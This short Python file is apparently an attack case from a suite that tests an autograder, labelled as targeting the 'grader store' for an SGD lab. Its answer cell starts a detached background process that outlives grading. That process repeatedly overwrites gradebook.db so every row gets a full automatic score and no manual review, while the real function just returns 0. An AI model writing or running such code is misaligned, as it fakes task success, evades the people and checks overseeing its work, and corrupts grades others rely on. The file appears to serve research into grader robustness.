# /// attack
# title = "Leave a process that writes points when grading is over"
# lab = "01-sgd"
# class = "grader store"
# fails = ["num-updates-tests"]
# flags = []
# ///

# %% role="answer" id="num-updates"

import os
import subprocess
import sys

LATER = """
import sqlite3, time
from pathlib import Path
for _ in range(30):
    time.sleep(0.1)
    for path in (Path("../../../gradebook.db"), Path("@COURSE@/gradebook.db")):
        try:
            database = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=5)
            database.execute("UPDATE grade SET auto_score = 1, needs_manual_grade = 0")
            database.commit()
            database.close()
        except sqlite3.Error:
            pass
"""
subprocess.Popen([sys.executable, "-c", LATER, "@MARK@"], start_new_session=True)


def num_updates(num_samples, batch_size, num_epochs):
    return 0
